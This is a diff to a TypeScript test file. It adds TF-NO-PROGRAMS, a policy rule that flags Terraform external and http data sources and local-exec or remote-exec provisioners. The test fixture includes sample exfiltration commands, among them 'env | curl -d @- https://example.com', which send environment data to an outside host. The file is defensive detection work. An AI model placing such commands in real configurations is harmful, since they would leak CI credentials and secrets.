@@ -6,7 +6,10 @@ import { providerNoCredentials } from '../../../src/policy/rules/iam/provider-no
 import { scopedResources } from '../../../src/policy/rules/iam/scoped-resources';
 import { trustSpecificPrincipals } from '../../../src/policy/rules/iam/trust-specific-principals';
 import { iamRules } from '../../../src/policy/rules/iam';
+import { noPrograms } from '../../../src/policy/rules/iam/no-programs';
+import { EnvironmentJson } from '../../../src/policy/terraform-json';
 import { envOf, verdict } from '../../helpers/policy';
+import { synthEnvironment } from '../../helpers/synth';
 
 const policy = (...Statement: Record<string, unknown>[]) => JSON.stringify({ Version: '2012-10-17', Statement });
 const trust = (...Statement: Record<string, unknown>[]) => ({ assume_role_policy: policy(...Statement) });
@@ -20,8 +23,11 @@ describe('iamRules', () => {
       'IAM-TRUST-SPECIFIC-PRINCIPALS',
       'IAM-NO-USER-POLICIES',
       'PROVIDER-NO-CREDENTIALS',
+      'TF-NO-PROGRAMS',
     ]);
-    for (const rule of iamRules) expect(Object.values(rule.publicIds).flat().length).toBeGreaterThan(0);
+    // TF-NO-PROGRAMS is the project's own: no public rule set checks data sources and provisioners.
+    for (const rule of iamRules.filter((r) => r.id !== 'TF-NO-PROGRAMS'))
+      expect(Object.values(rule.publicIds).flat().length).toBeGreaterThan(0);
   });
 });
 
@@ -272,5 +278,52 @@ describe('PROVIDER-NO-CREDENTIALS', () => {
     const message = verdict(providerNoCredentials, env, 'provider.aws');
     expect(message).toMatch(/sets access_key, secret_key, token as literal values.*Fix:/);
     expect(message).not.toContain('AKIAIOSFODNN7EXAMPLE');
+  });
+});
+
+describe('TF-NO-PROGRAMS', () => {
+  const env = new EnvironmentJson({
+    test: {
+      data: {
+        external: { version: { program: ['sh', '-c', 'curl -d @- https://example.com'] } },
+        http: { ip: { url: 'https://checkip.amazonaws.com' } },
+        aws_ami: { image: { most_recent: true } },
+      },
+      resource: {
+        terraform_data: {
+          hook: { provisioner: [{ 'local-exec': { command: 'env | curl -d @- https://example.com' } }] },
+        },
+        aws_instance: { web: { ami: 'ami-1', provisioner: [{ 'remote-exec': { inline: ['id'] } }] } },
+        aws_vpc: { main: { cidr_block: '10.0.0.0/16' } },
+      },
+    },
+  });
+  const programs = env.resources.filter((r) => noPrograms.appliesTo.includes(r.type));
+
+  it('finds every external or http data source and every provisioner, and nothing else', () => {
+    expect(programs.map((r) => r.address).sort()).toEqual([
+      'aws_instance.web.provisioner.remote-exec',
+      'data.external.version',
+      'data.http.ip',
+      'terraform_data.hook.provisioner.local-exec',
+    ]);
+  });
+
+  it.each([
+    ['data.external.version', /is a external data source, which runs a program .* Fix: do it with a resource/],
+    ['data.http.ip', /is a http data source/],
+    [
+      'terraform_data.hook.provisioner.local-exec',
+      /is a local-exec provisioner, which runs commands at apply, with the CI role's AWS credentials/,
+    ],
+    ['aws_instance.web.provisioner.remote-exec', /is a remote-exec provisioner/],
+  ])('refuses %s', (address, message) => {
+    expect(verdict(noPrograms, env, address)).toMatch(message);
+  });
+
+  it('passes the shipped stacks: none of them runs a program', () => {
+    const dev = synthEnvironment('dev');
+    expect(dev.resources.filter((r) => noPrograms.appliesTo.includes(r.type))).toEqual([]);
+    expect(dev.resources.length).toBeGreaterThan(50);
   });
 });
